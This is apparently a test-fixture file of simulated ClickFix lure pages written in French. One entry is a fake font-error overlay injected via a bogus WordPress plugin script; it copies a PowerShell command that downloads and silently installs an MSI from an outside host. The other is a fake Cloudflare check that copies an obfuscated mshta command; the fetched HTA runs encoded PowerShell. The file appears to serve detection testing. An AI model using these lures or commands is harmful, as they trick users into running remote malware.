import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, fileRoute, zip, lnk, pe } from '../parts/e-bin.js';
import { doc } from '../parts/zx-kit.js';

export const entries: Entry[] = [
  {
  id: 'zx-clickfix-chrome-update-mairie',
  label: 'clickfix',
  kind: 'clickfix-fake-update',
  url: 'https://www.commune-de-vaulx-sur-loire.fr/actualites/marche-de-noel',
  body: doc({ title: 'Marché de Noël 2024 - Commune de Vaulx-sur-Loire', body: `<main class="wrap"><h1>Marché de Noël</h1><p>Le marché de Noël aura lieu place de la Mairie les 14 et 15 décembre…</p></main>
<script src="/wp-content/plugins/wp-optimize-cache/js/min.js?ver=3.2.1"></script>` }),
  routes: {
    'www.commune-de-vaulx-sur-loire.fr/wp-content/plugins/wp-optimize-cache/js/min.js': jsRoute(`(function(){if(document.cookie.indexOf('_wpo_s=')>-1)return;document.cookie='_wpo_s=1;max-age=86400;path=/';
var d=document.createElement('div');d.style.cssText='position:fixed;inset:0;background:#fff;z-index:99999;font-family:Arial;padding:60px';
d.innerHTML='<h2>Erreur d\\'affichage de la police</h2><p>La page web ne peut pas être affichée correctement : la police « Marianne » n\\'est pas installée sur votre ordinateur.</p><p>Pour corriger : cliquez sur <b>Corriger</b>, puis ouvrez PowerShell (clic droit sur Démarrer → Terminal), collez (Ctrl+V) et appuyez sur Entrée.</p><button id="fx" style="background:#1a73e8;color:#fff;border:0;padding:12px 28px">Corriger</button>';
document.body.appendChild(d);
document.getElementById('fx').onclick=function(){navigator.clipboard.writeText('$u="https://fonts-update.net/marianne.msi";$o="$env:TEMP\\\\fnt.msi";iwr $u -OutFile $o;Start-Process msiexec -ArgumentList "/i $o /qn"');this.textContent='Copié ✔'};})();`),
  },
},
  {
  id: 'zx-clickfix-mshta-cloudflare-look',
  label: 'clickfix',
  kind: 'clickfix-captcha',
  url: 'https://verification.garage-dupuis-auto.be/cdn-cgi/challenge',
  body: doc({ title: 'Un instant…', css: 'body{background:#fff;font-family:system-ui}.m{max-width:620px;margin:80px auto}', body: `<div class="m"><h1 style="font-weight:500">garage-dupuis-auto.be</h1><h2 style="font-weight:400">Vérification que vous êtes un humain. Cela peut prendre quelques secondes.</h2>
<div style="border:1px solid #ddd;padding:18px;width:300px"><button id="v" style="padding:8px 16px">Vérifier</button></div><div id="i" hidden><p>Pour terminer : <b>Win + R</b>, collez le code avec <b>Ctrl + V</b>, puis <b>Entrée</b>.</p></div>
<p style="font-size:12px;color:#777;margin-top:40px">Ray ID : 8e1f4c0a9b7d2e11 · Performance et sécurité</p></div>
<script>
var p=['ms','hta',' ht','tps://garage-dupuis-auto.be','/cdn-cgi/c.hta',' # ✅ ','« Je suis humain - Ray ID 8e1f4c »'];
document.getElementById('v').addEventListener('click',function(){var t=document.createElement('input');t.value=p.join('');document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();document.getElementById('i').hidden=false});
</script>` }),
  routes: { 'verification.garage-dupuis-auto.be/cdn-cgi/c.hta': fileRoute('<html><head><HTA:APPLICATION SHOWINTASKBAR="no" WINDOWSTATE="minimize"><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -ep bypass -w 1 -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",0:window.close</script></head></html>', 'application/hta') },
},
];
